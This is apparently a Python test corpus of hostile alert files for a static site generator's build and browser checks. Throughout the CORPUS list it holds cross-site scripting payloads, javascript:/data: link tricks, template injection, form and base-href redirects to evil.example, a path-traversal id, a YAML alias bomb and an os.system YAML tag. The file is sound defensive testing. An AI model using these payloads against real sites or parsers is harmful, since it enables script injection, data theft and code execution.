"""A corpus of bad and malicious alert files (issue 8 §4), shared by the build and browser tests.

Each case is (file name, file bytes, expectation). The expectation is either
`Rejected(words)` — `sitegen check` must report an error on that file, with a line, whose
message contains `words` — or `Inert()` — the file builds and nothing it carries can act
on the page (checked on the HTML here and in real Chromium in tests/browser).
"""

from __future__ import annotations

from dataclasses import dataclass

# Every payload tries to prove it ran in one of these observable ways.
PWN = "window.__pwned=1;alert(1);document.title='PWNED'"


@dataclass(frozen=True)
class Rejected:
    words: str


@dataclass(frozen=True)
class Inert:
    pass


def alert(
    body: str = "The river is rising.\n\n## What to do\n\n- Keep away.\n", **fields: str
) -> bytes:
    values = {
        "title": '"Flood watch"',
        "event": "Flood",
        "category": "Met",
        "severity": "Severe",
        "urgency": "Expected",
        "certainty": "Likely",
        "status": "Actual",
        "msg_type": "Alert",
        "sent": "2026-11-25T07:00:00+09:00",
        "expires": "2026-11-26T07:00:00+09:00",
        "areas": '\n  - name: "Seoul"\n    geocodes: {ISO3166-2: KR-11}',
        "references": "[]",
    }
    values.update(fields)
    front = "\n".join(f"{key}: {value}" for key, value in values.items())
    return f"---\n{front}\n---\n{body}".encode()


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON escapes are valid YAML)."""
    import json

    return json.dumps(text)


BOMB = (
    "---\n"
    + "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    + "".join(
        f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, "
        f"*a{i - 1}, *a{i - 1}, *a{i - 1}]\n"
        for i in range(1, 12)
    )
    + "---\nbody\n"
)

CORPUS: list[tuple[str, bytes, Rejected | Inert]] = [
    # script injection in every front-matter field that reaches a page
    ("xss-title.md", alert(title=q(f"</title><script>{PWN}</script>")), Inert()),
    ("xss-title-attr.md", alert(title=q(f'" onmouseover="{PWN}" x="')), Inert()),
    ("xss-headline.md", alert(headline=q(f'<img src=x onerror="{PWN}">')), Inert()),
    ("xss-event.md", alert(event=q(f'<svg onload="{PWN}">')), Inert()),
    ("xss-area-name.md", alert(areas=f"\n  - name: {q('<script>' + PWN + '</script>')}"), Inert()),
    (
        "xss-geocode.md",
        alert(areas='\n  - name: "Seoul"\n    geocodes: {"x<script>\\"": "KR-11"}'),
        Inert(),
    ),
    ("xss-style-breakout.md", alert(title=q(f"</style><script>{PWN}</script>")), Inert()),
    ("xss-comment-breakout.md", alert(title=q(f"--><script>{PWN}</script><!--")), Inert()),
    ("xss-cdata.md", alert(title=q(f"]]><script>{PWN}</script>")), Inert()),
    # raw HTML and script URLs in the body
    ("body-script.md", alert(f"<script>{PWN}</script>\n\n## What to do\n\n- x\n"), Inert()),
    ("body-img-onerror.md", alert(f'<img src=x onerror="{PWN}">\n'), Inert()),
    ("body-iframe.md", alert(f'<iframe srcdoc="<script>{PWN}</script>"></iframe>\n'), Inert()),
    ("body-svg.md", alert(f"<svg><script>{PWN}</script></svg>\n"), Inert()),
    (
        "body-meta-refresh.md",
        alert('<meta http-equiv=refresh content="0;url=javascript:alert(1)">\n'),
        Inert(),
    ),
    ("body-base.md", alert('<base href="https://evil.example/">\n'), Inert()),
    ("body-style.md", alert("<style>body{display:none}</style>\n"), Inert()),
    ("body-form.md", alert("<form action=https://evil.example><input name=p></form>\n"), Inert()),
    ("link-javascript.md", alert(f"[read more](javascript:{PWN})\n"), Inert()),
    ("link-entity-tab.md", alert("[read](java&#x09;script:alert(1))\n"), Inert()),
    ("link-entity-letter.md", alert("[read](&#106;avascript:alert(1))\n"), Inert()),
    ("link-data.md", alert("[read](data:text/html,<script>alert(1)</script>)\n"), Inert()),
    ("link-reference.md", alert("[read][r]\n\n[r]: javascript:alert(1)\n"), Inert()),
    (
        "link-title-breakout.md",
        alert('[read](https://x.example "\\" onmouseover=alert(1)")\n'),
        Inert(),
    ),
    ("image-tracker.md", alert("![map](https://evil.example/pixel.png)\n"), Inert()),
    (
        "jinja-body.md",
        alert("{{ config.sender }} {% include 'base.html' %} {{ ''.__class__.__mro__ }}\n"),
        Inert(),
    ),
    ("jinja-title.md", alert(title=q("{{ config }}{% raw %}")), Inert()),
    (
        "html-entities.md",
        alert("&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;\n"),
        Inert(),
    ),
    # an area named at length, with no geocode: its page folder must stay under the 255
    # bytes a file name may have (the build stopped with "File name too long")
    ("long-area-name.md", alert(areas=f"\n  - name: {'Riverside ' * 40}"), Inert()),
    ("long-area-id.md", alert(areas=f"\n  - name: Seoul\n    id: {'a' * 300}"), Inert()),
    # files that must be refused, each with its own message
    (
        "bad-id-traversal.md",
        alert(id=q("../../etc/passwd")),
        Rejected("cannot be used as an alert id"),
    ),
    ("bad-id-slash.md", alert(id=q("a/b")), Rejected("cannot be used as an alert id")),
    (
        "bad-reference-traversal.md",
        alert(msg_type="Update", references='["../x"]'),
        Rejected("no alert with that id"),
    ),
    ("rtl-override-title.md", alert(title=q("Flood \u202ehctaw")), Rejected("text-direction")),
    ("rtl-isolate-event.md", alert(event=q("Flood\u2067x")), Rejected("text-direction")),
    ("alias-bomb.md", BOMB.encode(), Rejected("aliases")),
    (
        "merge-key.md",
        alert().replace(b"event: Flood", b"event: Flood\n<<: {x: 1}"),
        Rejected("aliases"),
    ),
    ("invalid-utf8.md", alert().replace(b"river", b"riv\xc3\x28er"), Rejected("not valid UTF-8")),
    (
        "latin1.md",
        alert().replace(b"river", "rivière".encode("latin-1")),
        Rejected("not valid UTF-8"),
    ),
    ("nul-byte.md", alert().replace(b"river", b"riv\x00er"), Rejected("NUL byte")),
    (
        "xss-geocode-value.md",
        alert(areas='\n  - name: "Seoul"\n    geocodes: {"x": "\\"><script>alert(1)</script>"}'),
        Rejected("a geocode may only hold letters A-Z, digits"),
    ),
    ("escaped-bell-title.md", alert(title=q("Flood \u0007 watch")), Rejected("U+0007")),
    ("escaped-fffe-event.md", alert(event=q("Flood\ufffe")), Rejected("U+FFFE")),
    ("raw-escape-body.md", alert("The \x1b[31mriver\x1b[0m\n"), Rejected("U+001B")),
    ("char-reference-body.md", alert("The &#xFFFF; river\n"), Rejected("U+FFFF")),
    ("utf16.md", alert().decode().encode("utf-16"), Rejected("saved as UTF-16")),
    ("huge.md", alert("x" * 1_200_000), Rejected("must be under 1,000,000 bytes")),
    (
        "huge-front-matter.md",
        b"---\ntitle: " + b"a" * 70_000 + b"\n---\nbody\n",
        Rejected("front matter is over"),
    ),
    (
        "python-tag.md",
        alert(title="!!python/object/apply:os.system ['echo pwned']"),
        Rejected("YAML tags such as '!!python/object/apply:os.system'"),
    ),
    (
        "deep-nesting.md",
        ("---\nareas: " + "[" * 30 + "]" * 30 + "\n---\nx\n").encode(),
        Rejected("nested more than"),
    ),
]
